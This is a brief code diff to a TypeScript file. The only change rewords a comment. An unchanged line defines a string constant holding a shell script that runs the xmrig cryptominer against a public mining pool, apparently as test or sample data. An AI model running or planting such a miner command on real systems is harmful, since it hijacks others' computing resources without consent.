@@ -15,7 +15,7 @@ import { deployments } from "./table-templates";
 
 type Node = { readonly [key: string]: unknown };
 
-/** Longer than any name that a verdict may hold, before it comes to what none may. */
+/** Longer than any name that a violation may hold, before it comes to what none may. */
 const miner = `#!/bin/sh\n${"./xmrig -o stratum+tcp://pool.supportxmr.com:3333 ".repeat(2)}--pass ${marker}`;
 
 /** A name, a number, or an expression in its place. */
